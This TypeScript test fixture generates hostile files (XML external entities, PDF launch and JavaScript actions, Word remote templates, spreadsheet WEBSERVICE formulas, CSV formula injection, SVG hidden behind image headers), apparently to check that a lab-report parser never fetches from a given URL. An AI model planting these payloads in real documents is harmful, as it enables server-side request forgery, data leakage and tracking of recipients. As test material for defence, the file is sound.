/** Generates files that ask their reader to fetch something from an address: none of them may be obeyed. */
import { strToU8, zipSync } from 'fflate'
import type { HostileFile } from './hostile-files.ts'
import { pdfOf, placedRows } from './pdf.ts'

const zip = (parts: Record<string, string>) =>
  zipSync(Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)])))

const relation = (type: string, target: string) =>
  `<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`
const word = (body: string, more: Record<string, string>) =>
  zip({
    '[Content_Types].xml': '<Types/>',
    'word/document.xml': `<w:document xmlns:w="w" xmlns:r="r" xmlns:a="a"><w:body><w:p><w:r><w:t>Ferritin 45 ng/mL (30-400)</w:t></w:r></w:p>${body}</w:body></w:document>`,
    ...more,
  })
const workbook = (cells: string, more: Record<string, string>) =>
  zip({
    'xl/workbook.xml':
      '<workbook xmlns:r="r"><sheets><sheet name="a" r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId9"/></externalReferences></workbook>',
    'xl/_rels/workbook.xml.rels':
      '<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>',
    'xl/worksheets/sheet1.xml': `<worksheet><sheetData><row r="1">${cells}</row></sheetData></worksheet>`,
    ...more,
  })

const row = placedRows([50, 230, 310, 420], [['Ferritin', '45', 'ng/mL', '30 - 400']])
const pdf = (catalog: string, objects: string[] = []) => pdfOf([row], { catalog, objects })

/** @param url begins every address in the files */
export function callingFiles(url: string): HostileFile[] {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><image x:href="${url}/svg"/><style>@import "${url}/css"</style></svg>`
  return [
    { name: 'entity.xml', content: `<!DOCTYPE a [<!ENTITY b SYSTEM "${url}/entity">]><a>&b;</a>` },
    { name: 'parameter.xml', content: `<!DOCTYPE a [<!ENTITY % b SYSTEM "${url}/dtd"> %b;]><a>x</a>` },
    { name: 'doctype.xml', content: `<!DOCTYPE a SYSTEM "${url}/doctype"><a>Ferritin 45 ng/mL</a>` },
    {
      name: 'include.xml',
      content: `<?xml-stylesheet href="${url}/xsl"?><a xmlns:xi="http://www.w3.org/2001/XInclude" xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:schemaLocation="a ${url}/xsd"><xi:include href="${url}/include"/></a>`,
    },
    {
      name: 'cda.xml',
      content: `<ClinicalDocument xmlns="urn:hl7-org:v3"><component><nonXMLBody><text mediaType="application/pdf"><reference value="${url}/cda"/></text></nonXMLBody></component></ClinicalDocument>`,
    },
    {
      name: 'fhir.json',
      content: JSON.stringify({
        resourceType: 'Bundle',
        link: [{ relation: 'next', url: `${url}/next` }],
        entry: [
          {
            fullUrl: `${url}/full`,
            resource: { resourceType: 'Binary', securityContext: { reference: url } },
          },
          { resource: { resourceType: 'DiagnosticReport', presentedForm: [{ url: `${url}/form` }] } },
        ],
      }),
    },
    {
      name: 'pointer.hl7',
      content: `MSH|^~\\&|A|B|||||ORU^R01\rOBX|1|RP|1^x||${url}/rp^app^image^jpeg|||||F`,
    },
    { name: 'formula.csv', content: `Test,Result\n=WEBSERVICE("${url}/csv"),=IMAGE("${url}/image")\n` },
    { name: 'page.txt', content: `<img src="${url}/img"><link rel=stylesheet href="${url}/css">\n` },
    { name: 'uri.pdf', content: pdf(`/OpenAction << /S /URI /URI (${url}/uri) >>`) },
    { name: 'launch.pdf', content: pdf(`/OpenAction << /S /Launch /F (${url}/launch) /NewWindow true >>`) },
    {
      name: 'script.pdf',
      content: pdf(
        `/OpenAction << /S /JavaScript /JS (this.submitForm\\({cURL: "${url}/js"}\\); fetch\\("${url}/js"\\)) >>`,
      ),
    },
    { name: 'submit.pdf', content: pdf(`/AA << /WC << /S /SubmitForm /F (${url}/submit) >> >>`) },
    { name: 'elsewhere.pdf', content: pdf(`/OpenAction << /S /GoToR /F (${url}/goto) /D [0 /Fit] >>`) },
    {
      name: 'stream.pdf',
      content: pdf('/Metadata EXTRA', [
        `<< /Length 0 /F << /FS /URL /F (${url}/stream) >> >>\nstream\n\nendstream`,
      ]),
    },
    {
      name: 'template.docx',
      content: word('', {
        'word/settings.xml':
          '<w:settings xmlns:w="w" xmlns:r="r"><w:attachedTemplate r:id="rId9"/></w:settings>',
        'word/_rels/settings.xml.rels': relation('attachedTemplate', `${url}/template.dotm`),
      }),
    },
    {
      name: 'picture.docx',
      content: word('<w:p><w:drawing><a:blip r:link="rId9"/></w:drawing></w:p><w:altChunk r:id="rId9"/>', {
        'word/_rels/document.xml.rels': relation('image', `${url}/picture`),
        'word/media/image1.svg': svg,
      }),
    },
    {
      name: 'entity.docx',
      content: zip({
        'word/document.xml': `<!DOCTYPE a [<!ENTITY b SYSTEM "${url}/docx">]><w:document xmlns:w="w"><w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>`,
      }),
    },
    {
      name: 'field.docx',
      content: word(`<w:p><w:r><w:instrText>INCLUDEPICTURE "${url}/field" \\d</w:instrText></w:r></w:p>`, {}),
    },
    {
      name: 'link.xlsx',
      content: workbook(`<c r="A1"><f>WEBSERVICE("${url}/xlsx")</f><v>1</v></c>`, {
        'xl/externalLinks/_rels/externalLink1.xml.rels': relation('externalLinkPath', `${url}/link`),
        'xl/connections.xml': `<connections><connection><webPr url="${url}/query"/></connection></connections>`,
      }),
    },
    { name: 'drawing.png', content: svg },
    { name: 'drawing.jpg', content: `<?xml version="1.0"?>${svg}` },
    // An honest beginning, and a drawing behind it for a decoder that looks further.
    {
      name: 'behind.png',
      content: Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.from(svg)]),
    },
    {
      name: 'behind.jpg',
      content: Buffer.concat([Buffer.from('ffd8ffe1', 'hex'), Buffer.from(svg), Buffer.from('ffd9', 'hex')]),
    },
  ]
}
